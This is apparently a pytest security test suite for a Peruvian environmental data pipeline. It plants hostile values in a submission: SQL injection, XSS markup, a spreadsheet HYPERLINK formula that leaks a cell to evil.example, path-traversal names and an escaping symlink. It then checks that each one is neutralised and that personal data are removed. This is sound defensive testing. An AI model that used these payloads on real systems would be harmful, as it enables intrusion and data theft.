"""What an untrusted server or submission might try, on the whole pipeline (docs/security.md has the model)."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import duckdb
import openpyxl
import pytest

from resources.errors import UnsafeName
from resources.inbox import Inbox, answer_path
from resources.lake import Lake
from resources.snapshots import SnapshotStore
from restoration.exports.release import write_export
from restoration.report.page import write_report
from sandbox.servers.app import SandboxServers
from sandbox.world import World
from tests.conftest import Pipeline, settings_for

SQL = "x'); drop table core.initiatives; attach '/tmp/evil.duckdb'; --"
MARKUP = "</td></script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"ver")'
PERSONAL = {"correo": "juana.quispe@example.org", "celular": "987654321", "dni": "41234567"}
WRITTEN = {  # where a person may write it, in spellings that people use
    "nombre": "Vivero de Juana, D.N.I. N° 41.234.567",
    "institucion": "juana.quispe@example.org",
    "financiador": "Contacto: Juana Quispe Mamani, 987.654.321",
    "monto_soles": "1000",
    "documento": "Recibo de RUC 10412345679, telf. (052) 234567",
    "estado": "En ejecución, C.E. 001234567",
}
SPELLINGS = ["41.234.567", "Quispe", "987.654.321", "10412345679", "234567)", "(052) 234567", "001234567"]


@pytest.fixture(scope="module")
def attacked(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pipeline]:
    """A night in which a company's submission holds all of it."""
    import shutil

    folder = tmp_path_factory.mktemp("attack")
    shutil.copytree(world.folder / "inbox", folder / "data" / "inbox")
    path = folder / "data" / "inbox" / "agroforestal_sac" / "sistemas.geojson"
    reported = json.loads(path.read_text())
    first = reported["features"][0]
    created = []
    for number, name in enumerate((SQL, MARKUP, FORMULA)):
        feature = json.loads(json.dumps(first))
        corners = feature["geometry"]["coordinates"][0]
        feature["geometry"]["coordinates"] = [[[x + 0.02 * (number + 1), y] for x, y, *_ in corners]]
        feature["properties"] |= {"codigo": f"EVIL-{number}", "nombre": name, "financiador": name} | {
            f"{k}_responsable": v for k, v in PERSONAL.items()
        }
        feature["properties"]["observaciones"] = (
            f"Responsable: Juana, {PERSONAL['correo']}, cel. +51 {PERSONAL['celular']}, DNI {PERSONAL['dni']}. {name}"
        )
        created.append(feature)
    persons = json.loads(json.dumps(created[0]))
    persons["geometry"]["coordinates"] = [[[x + 0.08, y] for x, y, *_ in first["geometry"]["coordinates"][0]]]
    persons["properties"] |= {"codigo": "PERSONAS", **WRITTEN}
    created.append(persons)
    bad = json.loads(json.dumps(created[1]))
    bad["properties"] |= {"codigo": "EVIL-9", "estado": MARKUP, "superficie_ha": FORMULA}
    reported["features"] += [*created, bad]
    path.write_text(json.dumps(reported))
    outside = folder / "secret.csv"
    outside.write_text("codigo,nombre\nS-1,secreto de otra carpeta\n")
    (folder / "data" / "inbox" / "ong_tierra" / "enlace.csv").symlink_to(outside)
    with SandboxServers(world) as servers:
        run = Pipeline(
            folder / "data", servers, settings_for(folder / "data", servers.write_hosts(folder / "hosts.json"))
        )
        assert run.run(with_exports=True), run.errors()
        yield run


def test_sql_in_a_value_stays_a_value(attacked: Pipeline) -> None:
    names = {row[0] for row in attacked.query("select name from core.initiatives where name like 'x'')%'")}
    assert names == {SQL}
    assert attacked.query("select count(*) > 100 from core.initiatives") == [(True,)]
    assert not Path("/tmp/evil.duckdb").exists()


def test_markup_in_a_name_is_text_on_every_page(attacked: Pipeline) -> None:
    pages = [
        *(attacked.data_dir / "quality").rglob("*.html"),
        attacked.data_dir / "report" / "index.html",
        *(attacked.data_dir / "exports").rglob("*.html"),
    ]
    assert len(pages) > 20
    for page in pages:
        text = page.read_text()
        assert "<script>alert(1)" not in text, page
        assert "<img src=x" not in text, page
    held = (attacked.data_dir / "quality" / "latest" / "cuarentena.html").read_text()
    assert "&lt;script&gt;" in held, "quarantined rows are shown, as text"


def test_a_formula_in_a_name_is_run_by_no_spreadsheet(attacked: Pipeline) -> None:
    workbooks = [p for p in attacked.data_dir.rglob("*.xlsx") if p.is_file()]
    assert answer_path(attacked.data_dir / "inbox" / "agroforestal_sac" / "sistemas.geojson") in workbooks
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path).worksheets:
            formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
            assert not formulas, (path.name, sheet.title, formulas[:3])
    for path in (attacked.data_dir / "exports").rglob("*.csv"):
        with path.open(newline="") as file:
            begun = [cell for row in csv.reader(file) for cell in row if cell.startswith(("=", "@"))]
        assert not begun, path


def test_personal_data_of_a_submission_is_in_no_table_and_no_export(attacked: Pipeline) -> None:
    with duckdb.connect(str(attacked.published), read_only=True) as con:
        columns = con.execute(
            "select schema_name, table_name, column_name from duckdb_columns() where not internal and data_type in ('VARCHAR', 'VARCHAR[]')"
        ).fetchall()
        for schema, table, column in columns:
            for kind, value in [*PERSONAL.items(), *((spelling, spelling) for spelling in SPELLINGS)]:
                found = con.execute(
                    f'select count(*) from {schema}."{table}" where contains(cast("{column}" as varchar), ?)', [value]
                ).fetchone()
                assert found == (0,), f"{kind} in {schema}.{table}.{column}"
        reported = con.execute(
            "select remarks from staging.stg_submissions__features where own_code = 'EVIL-0'"
        ).fetchone()
        assert reported is not None
        assert reported[0].count("[dato personal retirado]") == 3
        assert "Responsable: Juana" in reported[0]
        alone = con.execute(
            "select count(*) from core.institutions where institution_name like '%dato personal%'"
        ).fetchone()
        assert alone == (0,), "nobody is an institution by the name of what was taken out"
        counted = con.execute(
            "select sum(rows_failed) from quality.rule_counts where reporting_institution = 'agroforestal_sac'"
            " and rule_id = 'submissions.table.texts_hold_no_personal_data'"
        ).fetchone()
        assert counted == (5,), (
            "three names with remarks, the row of persons, and the one that is refused for its status"
        )
    for path in [
        *(attacked.data_dir / "exports").rglob("*"),
        *(attacked.data_dir / "quality").rglob("*"),
        attacked.data_dir / "report" / "index.html",
    ]:
        if path.is_file() and path.suffix in {".csv", ".html", ".json", ".geojson", ".ndjson"}:
            text = path.read_text(errors="ignore")
            assert not [v for v in [*PERSONAL.values(), *SPELLINGS] if v in text], path


def test_the_answer_says_that_personal_data_were_taken_out(attacked: Pipeline) -> None:
    answer = answer_path(attacked.data_dir / "inbox" / "agroforestal_sac" / "sistemas.geojson")
    rows = list(openpyxl.load_workbook(answer)["Aceptadas"].values)
    said = {row[rows[0].index("codigo")]: row[rows[0].index("por_mejorar")] or "" for row in rows[1:]}
    reported = {code for code, text in said.items() if "datos personales" in text}
    assert {"EVIL-0", "EVIL-1", "EVIL-2"} <= reported
    assert not [code for code in reported if not code.startswith(("EVIL", "PERSONAS"))]
    refused = list(openpyxl.load_workbook(answer)["Por corregir"].values)
    said = {row[refused[0].index("codigo")]: row[refused[0].index("que_paso")] for row in refused[1:]}
    assert "datos personales" in said["PERSONAS"], "a row that is refused for another reason says so too"


def test_a_link_in_the_inbox_is_not_followed(attacked: Pipeline) -> None:
    assert "ong_tierra--enlace.csv" not in Inbox(attacked.data_dir / "inbox").submissions()
    assert attacked.query("select count(*) from core.initiatives where name like 'secreto%'") == [(0,)]


@pytest.mark.parametrize("name", ["../../x", "a/b", "..", ".hidden", "a\x00b", "x" * 200, "a\nb"])
def test_a_part_s_name_leads_nowhere_else(tmp_path: Path, name: str) -> None:
    with pytest.raises(UnsafeName):
        SnapshotStore(tmp_path).current("minam.interventions", name)
    with pytest.raises(UnsafeName):
        Lake(tmp_path).path("minam.interventions", name, "abc")


def test_nobody_else_may_write_what_a_run_wrote(attacked: Pipeline) -> None:
    for path in attacked.data_dir.rglob("*"):
        if not path.is_symlink() and (attacked.data_dir / "inbox") not in path.parents:
            assert not path.stat().st_mode & 0o002, path


def test_the_published_file_runs_no_code_when_it_is_opened(attacked: Pipeline) -> None:
    """Views and functions of the file read its own tables; with outside access off everything still answers."""
    with duckdb.connect(str(attacked.published), read_only=True, config={"enable_external_access": "false"}) as con:
        for view in ("initiatives", "areas", "spending"):
            assert con.execute(f"select count(*) > 0 from {view}").fetchone() == (True,)
        assert con.execute("select count(*) > 0 from ground_in('16')").fetchone() == (True,)
        bodies = con.execute(
            "select coalesce(macro_definition, '') from duckdb_functions() where not internal"
        ).fetchall()
    assert not [b for (b,) in bodies if any(word in b.lower() for word in ("read_", "attach", "copy ", "httpfs"))]


def test_a_report_with_every_name_attacked_still_holds_its_policy(attacked: Pipeline, tmp_path: Path) -> None:
    page = write_export(attacked.published, tmp_path / "report", write_report).folder / "index.html"
    text = page.read_text()
    assert "default-src 'none'" in text
    assert page.stat().st_size < 5_000_000
    assert text.count("<script") == 5
